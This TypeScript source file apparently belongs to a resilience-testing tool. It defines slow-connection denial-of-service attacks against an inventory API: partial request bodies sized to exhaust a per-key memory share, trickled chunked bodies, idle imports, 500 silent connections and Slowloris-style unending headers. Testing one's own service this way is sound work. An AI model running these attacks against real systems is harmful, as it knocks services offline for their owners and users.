import type { Socket } from 'node:net';
import type { Attack, Target } from '../attack';
import { keepConnections, pause } from '../connections';
import { JSON_TYPE, rawRequest, withKey } from '../raw-request';

/**
 * The number of bytes that each client sends of its large request body before it stops. The service counts
 * them and 4 KB more as used memory. After 7 such requests, too little of the share of one caller is left for
 * another request: the share is 32 MiB, a quarter of the memory for request bodies.
 */
const LARGE_BEGIN = 4_789_300;

/**
 * Each body is sent in chunks. This list has the size of each body's first chunk, in bytes. The first 14
 * sizes are almost the maximum size of a body; together they exceed the caller's share of the memory for
 * bodies. The other 14 fill what is left of this share: they begin with 8 MB, and each is half of the one
 * before it.
 */
const BEGINS = [
  ...Array.from({ length: 14 }, () => 9_900_000),
  ...Array.from({ length: 14 }, (_, index) => Math.ceil(8_000_000 / 2 ** index)),
];

/** The pause between two pieces that a slow client sends, in ms. */
const PIECE_EVERY_MS = 1000;

interface Hoard {
  readonly name: string;
  readonly title: string;
  readonly connections: number;
  /** Returns the bytes that a client sends when it connects. @param index the number of the connection */
  readonly head: (target: Target, index: number) => Buffer;
  /** The bytes that the client sends again and again after `head`; if undefined, it sends nothing more. */
  readonly piece?: string;
}

/** Attacks with many connections, each of which occupies a resource and hardly uses it. */
export const HOARDING: readonly Attack[] = (
  [
    {
      name: 'slow-bodies',
      title: '28 bodies of one key that stop at 4.8 of 10 MB',
      connections: 28,
      head: ({ key }) =>
        Buffer.concat([
          unfinished('/api/v1/inventory/update', {
            ...withKey(key),
            ...JSON_TYPE,
            'Content-Length': '10000000',
          }),
          Buffer.alloc(LARGE_BEGIN, ' '),
        ]),
    },
    {
      name: 'slow-chunks',
      title: '28 slow bodies of one key in chunks, half of them 9.9 MB',
      connections: 28,
      head: ({ key }, index) =>
        Buffer.concat([
          unfinished('/api/v1/inventory/update', {
            ...withKey(key),
            ...JSON_TYPE,
            'Transfer-Encoding': 'chunked',
          }),
          chunk(BEGINS[index] ?? 0),
        ]),
      piece: '1\r\n \r\n',
    },
    {
      name: 'idle-imports',
      title: '16 idle imports of one key',
      connections: 16,
      head: ({ key }) =>
        unfinished('/api/v1/inventory/import', {
          ...withKey(key),
          'Content-Type': 'text/csv',
          'Transfer-Encoding': 'chunked',
        }),
    },
    {
      name: 'silent',
      title: '500 connections that send nothing',
      connections: 500,
      head: () => Buffer.alloc(0),
    },
    {
      name: 'slow-headers',
      title: '500 connections with a head that does not end',
      connections: 500,
      head: () => Buffer.from('GET /livez HTTP/1.1\r\nHost: attacker.example\r\n'),
      piece: 'X-A: 1\r\n',
    },
  ] satisfies Hoard[]
).map(hoard);

/** A chunk of spaces for a chunked body. */
function chunk(length: number): Buffer {
  return Buffer.from(`${length.toString(16)}\r\n${' '.repeat(length)}\r\n`);
}

/** The headers of a request whose body is never sent completely. */
function unfinished(path: string, headers: Readonly<Record<string, string>>): Buffer {
  return rawRequest('POST', path, headers);
}

function hoard({ name, title, connections, head, piece }: Hoard): Attack {
  return {
    name: `hold-${name}`,
    title,
    prepare: (target) => {
      const heads = Array.from({ length: connections }, (_, index) => head(target, index));
      return (signal) =>
        keepConnections(
          target.url,
          connections,
          (socket, _, index) => {
            // No request is sent completely, so the only possible response is an error response. The client
            // then closes the connection and opens a new one.
            socket.once('data', () => socket.destroy());
            socket.write(heads[index] ?? '');
            if (piece !== undefined) void trickle(socket, piece, signal);
          },
          signal,
        );
    },
  };
}

async function trickle(socket: Socket, piece: string, signal: AbortSignal): Promise<void> {
  while (!socket.destroyed && !signal.aborted) {
    socket.write(piece);
    await pause(PIECE_EVERY_MS, signal);
  }
}
